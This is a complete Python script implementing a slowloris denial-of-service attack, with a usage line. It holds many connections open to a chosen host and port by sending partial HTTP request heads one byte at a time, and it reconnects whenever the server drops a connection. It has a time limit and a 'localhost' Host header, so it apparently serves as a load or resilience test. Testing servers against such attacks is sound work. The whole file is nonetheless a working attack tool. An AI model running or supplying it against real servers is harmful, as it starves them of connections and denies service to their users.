#!/usr/bin/env python3
"""Holds COUNT slowloris connections to HOST:PORT for at most SECONDS: each sends a request head one byte at a
time, never finishing it, and reconnects when the server gives up on it. Stops by itself, or on SIGTERM.
Usage: slowloris.py HOST PORT COUNT SECONDS"""
import selectors
import signal
import socket
import sys
import time

PARTIAL_HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
DRIP_EVERY = 1.0  # seconds between bytes on each connection


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    stop_at = time.monotonic() + seconds
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    selector = selectors.DefaultSelector()
    reconnects = 0

    def connect():
        sock = socket.create_connection((host, port))
        sock.sendall(PARTIAL_HEAD)
        selector.register(sock, selectors.EVENT_READ)

    for _ in range(count):
        connect()
    print(f"slowloris: {count} connections open", flush=True)
    next_drip = time.monotonic() + DRIP_EVERY
    try:
        while time.monotonic() < stop_at:
            # A readable socket has been answered (408) or closed: replace it.
            for key, _ in selector.select(timeout=0.2):
                selector.unregister(key.fileobj)
                key.fileobj.close()
                connect()
                reconnects += 1
            if time.monotonic() >= next_drip:
                for key in list(selector.get_map().values()):
                    try:
                        key.fileobj.send(b"a")
                    except OSError:
                        pass
                next_drip += DRIP_EVERY
    finally:
        print(f"slowloris: done, {reconnects} reconnections", flush=True)


if __name__ == "__main__":
    main()
